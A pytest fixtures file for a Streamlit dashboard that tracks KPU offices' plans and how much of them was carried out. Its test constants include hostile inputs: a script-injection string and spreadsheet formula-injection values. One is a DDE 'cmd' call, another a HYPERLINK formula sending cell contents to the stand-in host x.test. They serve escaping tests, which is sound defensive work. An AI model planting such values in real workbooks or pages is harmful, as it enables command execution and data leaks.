"""Fixtures for the dashboard tests: sample databases built once per session, hand-made plans.

The sample DB (the app's own demo workbooks, as on first start) takes a few seconds to build, so
it is built once and each test gets a fresh copy of the file.
"""

import hashlib
import shutil
from pathlib import Path

import pytest

from rbdash.model import Activity, Plan
from rbdash.samples import ensure_database
from rbdash.store import Store

ROOT = Path(__file__).resolve().parents[1]
APP = str(ROOT / "app.py")
PAGES = ["pages/beranda.py", "pages/impor.py", "pages/gantt.py", "pages/cakupan.py", "pages/perbandingan.py",
         "pages/progres.py", "pages/riwayat.py"]
XSS = "<script>alert(1)</script>"
BOLD = "<b>x</b>"
# workbook text a spreadsheet would evaluate (issue 18.3)
FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.test/?"&A1)', "+1+1", "-2+3", "@SUM(A1)"]


@pytest.fixture(scope="session")
def sample_db_file(tmp_path_factory):
    """The first-start database (demo sample workbooks), built once."""
    root = tmp_path_factory.mktemp("sample")
    db = root / "rbdash.duckdb"
    results = ensure_database(db, root / "samples")
    assert results and all(o.status.value == "new" for o in results), results
    return db


@pytest.fixture
def sample_db(sample_db_file, tmp_path, monkeypatch):
    """A private copy of the sample DB, selected for the app through RBDASH_DB."""
    db = tmp_path / "rbdash.duckdb"
    shutil.copy(sample_db_file, db)
    monkeypatch.setenv("RBDASH_DB", str(db))
    monkeypatch.setenv("RBDASH_SAMPLES", str(tmp_path / "no-samples"))
    return db


@pytest.fixture
def empty_db(tmp_path, monkeypatch):
    """An initialised database without any plan (the file exists, so no samples are loaded)."""
    db = tmp_path / "empty.duckdb"
    Store(db)
    monkeypatch.setenv("RBDASH_DB", str(db))
    monkeypatch.setenv("RBDASH_SAMPLES", str(tmp_path / "no-samples"))
    return db


def make_plan(satker, year, rows, has_realization=False, as_of=None, source=None):
    """A Plan without a workbook: rows = (area, kegiatan, indikator, planned months, realised months)."""
    acts = [Activity(sheet="Renaksi", row=10 + i, area_no=area, kegiatan=keg, sub_kegiatan=None, indikator=ind,
                     planned_months=list(planned), realized_months=list(realized))
            for i, (area, keg, ind, planned, realized) in enumerate(rows)]
    digest = hashlib.sha256(repr((satker, year, rows)).encode()).hexdigest()
    return Plan(satker=satker, year=year, activities=acts, warnings=[], source_name=source or f"{satker}.xlsx",
                sha256=digest, as_of_month=as_of, has_realization=has_realization)


@pytest.fixture
def small_store(db_location):
    """Three offices of 2024: A and B report realisation, C reports nothing (on each backend)."""
    store = Store(db_location("small"))
    store.import_plan(make_plan("KPU Kota Alpha", 2024, [
        (1, "Kegiatan A1", "Indikator A1", [1, 2, 3], [1, 2]),      # 2 of 3 due by Mar
        (2, "Kegiatan A2", "Indikator A2", [2, 6], [2, 4]),          # Feb done, Apr outside schedule
    ], has_realization=True, as_of=3), actor="test")
    store.import_plan(make_plan("KPU Kota Beta", 2024, [
        (1, "Kegiatan B1", "Indikator B1", [1, 2], []),              # 0 of 2
        (3, "Kegiatan B3", "Indikator B3", [3], [3]),                # 1 of 1
    ], has_realization=True, as_of=3), actor="test")
    store.import_plan(make_plan("KPU Kota Gamma", 2024, [
        (1, "Kegiatan C1", XSS, [1, 2, 3], []),
        (8, BOLD, "Indikator C8", [12], []),
    ]), actor="test")
    yield store
    store.close()


def warm_pages_manager():
    """Make AppTest behave like a server that has already served app.py once (the normal state).

    A pages/ folder makes Streamlit start in its legacy pages-directory mode until app.py's
    st.navigation runs once per process (pages/_ui.leave_legacy_mode); AppTest re-enters that mode
    before *every* run, so each run would first start the page alone and rerun it through app.py,
    and a button press being tested would be used up by that first start (on a server no button
    can be pressed before the mode is left).  Returns the function that undoes the patch.
    """
    import streamlit.testing.v1.app_test as app_test
    from streamlit.runtime.pages_manager import PagesManager

    class WarmPagesManager(PagesManager):
        def __init__(self, *args, **kwargs):
            super().__init__(*args, **kwargs)
            PagesManager.uses_pages_directory = False

    original = app_test.PagesManager
    app_test.PagesManager = WarmPagesManager

    def undo():
        app_test.PagesManager = original
        PagesManager.uses_pages_directory = None
    return undo


@pytest.fixture
def warm_server():
    """AppTest as a warm server; the cold start itself is covered by test_app.py::test_cold_*."""
    undo = warm_pages_manager()
    yield
    undo()
